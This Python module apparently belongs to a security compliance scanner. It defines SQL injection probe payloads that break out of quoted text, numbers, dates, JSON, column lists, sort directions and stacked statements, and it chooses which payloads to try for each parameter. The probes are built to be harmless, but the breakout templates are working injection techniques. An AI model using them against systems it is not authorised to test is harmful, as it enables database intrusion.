"""What is sent: fragments that do nothing where they are data and call one harmless function where they are SQL.

No fragment changes anything: none writes, none makes a condition wider than it was (there is no OR), and all are
made of a value that is right in its place, so that the statement goes on to mean what it meant.
"""

from collections.abc import Callable
from dataclasses import dataclass

from chimera_compliance.probes.injection.points import COLUMNS, CONDITION, DIRECTION, PAGING, SORTING, Point


@dataclass(frozen=True)
class Form:
    """A way out of the place that a value has in a statement."""

    name: str
    text: Callable[[str, str], str]
    """Of the right value and of the call that tells: what is sent."""

    def __str__(self) -> str:
        return self.name

    @property
    def quotes(self) -> bool:
        """Whether it takes a quote."""
        return "'" in self.text("", "")


def _scalar(call: str) -> str:
    return f"(SELECT 0 FROM {call})"


CONCATENATED = Form("closes a quoted text", lambda v, f: f"{v}'||{_scalar(f)}||'")
COMPARED = Form("closes a quoted value of a condition", lambda v, f: f"{v}' AND 0={_scalar(f)} AND '{v}'='{v}")
ENCLOSED = Form("closes a quoted value in parentheses", lambda v, f: f"{v}') AND 0={_scalar(f)} AND ('{v}'='{v}")
ADDED = Form("closes a quoted number", lambda v, f: f"{v}'+{_scalar(f)}+'0")
DATED = Form("closes a quoted date", lambda v, f: f"{v}'::date+{_scalar(f)}+'0")
ADDRESSED = Form("closes a quoted address", lambda v, f: f"{v}'::inet+{_scalar(f)}+'0")
BARE = Form("stands where a number stands", lambda v, f: f"{v}-{_scalar(f)}")
LISTED = Form("stands in a list of columns", lambda v, f: f"{v},{_scalar(f)}")
EXPRESSION = Form("stands where a column stands", lambda v, f: _scalar(f))
CONDITIONAL = Form("stands where a condition stands", lambda v, f: f"0={_scalar(f)}")
FIRST_COLUMN = Form("stands in a list of columns", lambda v, f: f"1,{_scalar(f)}")
DIRECTED = Form("stands where a direction stands", lambda v, f: f"asc,{_scalar(f)}")
NAMED = Form("closes a quoted name", lambda v, f: f'id",{_scalar(f)},"id')
IDENTIFIER = Form("closes a quoted name", lambda v, f: f'{v}",{_scalar(f)},"{v}')
ESCAPED = Form("gets past doubled quotes with a backslash", lambda v, f: f"\\'||{_scalar(f)}--")
ESCAPED_CONDITION = Form("gets past doubled quotes with a backslash", lambda v, f: f"\\' AND 0={_scalar(f)}--")
STACKED = Form("ends the statement and begins another", lambda v, f: f"{v}'; SELECT 0 FROM {f}; SELECT '{v}")
STACKED_BARE = Form("ends the statement and begins another", lambda v, f: f"{v}; SELECT 0 FROM {f}; SELECT {v}")
TRUTH = Form("stands where a truth value stands", lambda v, f: f"{v} AND 0={_scalar(f)}")
JSON_TEXT = Form(
    "closes a quoted JSON object", lambda v, f: f"{v}\"}}'::jsonb||(SELECT '{{}}'::jsonb FROM {f})||'{{\"x\":\"{v}"
)

JSON_CONDITION = Form(
    "closes a quoted JSON object of a condition", lambda v, f: f"{v}\"}}' AND 0={_scalar(f)} AND ''<>'{{\"x\":\"{v}"
)


_ID = "00000000-0000-4000-8000-000000000000"
COMPARED_ID = Form("closes a quoted id of a condition", lambda v, f: COMPARED.text(_ID, f))
ENCLOSED_ID = Form("closes a quoted id in parentheses", lambda v, f: ENCLOSED.text(_ID, f))
COMPARED_NUMBER = Form("closes a quoted number of a condition", lambda v, f: COMPARED.text("1", f))


def first_forms(point: Point) -> list[Form]:
    """Forms for the contexts in which a value of its kind commonly stands; few, as each costs a request."""
    if point.kind == "number":
        return [BARE, ADDED]
    if point.ordering:
        return [packed_form(point), FIRST_COLUMN]
    if point.kind == "boolean":
        return [TRUTH, COMPARED]
    if point.kind == "date":
        return [COMPARED, DATED]
    if point.kind in ("uuid", "address"):
        return [COMPARED]
    return [packed_form(point)] if point.free else [COMPARED, CONCATENATED]


def further_forms(point: Point) -> list[Form]:
    """Forms for rarer contexts, tried where the place takes any text at all."""
    tried = first_forms(point)
    if point.where == "body":
        rest = [JSON_TEXT, ESCAPED, STACKED]
    else:
        rest = [COMPARED, ENCLOSED, ESCAPED, ESCAPED_CONDITION, STACKED, BARE, LISTED, EXPRESSION, IDENTIFIER]
        rest += [CONCATENATED, STACKED_BARE, CONDITIONAL, JSON_TEXT, JSON_CONDITION]
        rest += [COMPARED_ID, ENCLOSED_ID, COMPARED_NUMBER] if point.free else []
        rest += [DIRECTED, FIRST_COLUMN, NAMED] if point.ordering else []
    distinct = {form.text("", ""): form for form in rest if form not in tried}
    return list(distinct.values())


def packed_form(point: Point) -> Form:
    """The likeliest form, for a request that carries many at once: by what the name says of its place."""
    if point.where == "query":
        for pattern, form in _BY_NAME:
            if pattern.fullmatch(point.name):
                return form
    return ADDRESSED if point.name.lower() in ("x-forwarded-for", "x-real-ip") else CONCATENATED


def second_form(point: Point) -> Form:
    """The next likely form, for a second request that carries many at once."""
    if point.where != "query":
        return STACKED
    if SORTING.fullmatch(point.name) or COLUMNS.fullmatch(point.name):
        return NAMED
    if point.name.lower() == "order":
        return EXPRESSION
    if PAGING.fullmatch(point.name) or CONDITION.fullmatch(point.name) or DIRECTION.fullmatch(point.name):
        return packed_form(point)
    return COMPARED_ID if point.name.lower().endswith(("id", "ids")) else COMPARED


_BY_NAME = (
    (CONDITION, CONDITIONAL),
    (SORTING, EXPRESSION),
    (DIRECTION, DIRECTED),
    (COLUMNS, EXPRESSION),
    (PAGING, BARE),
)
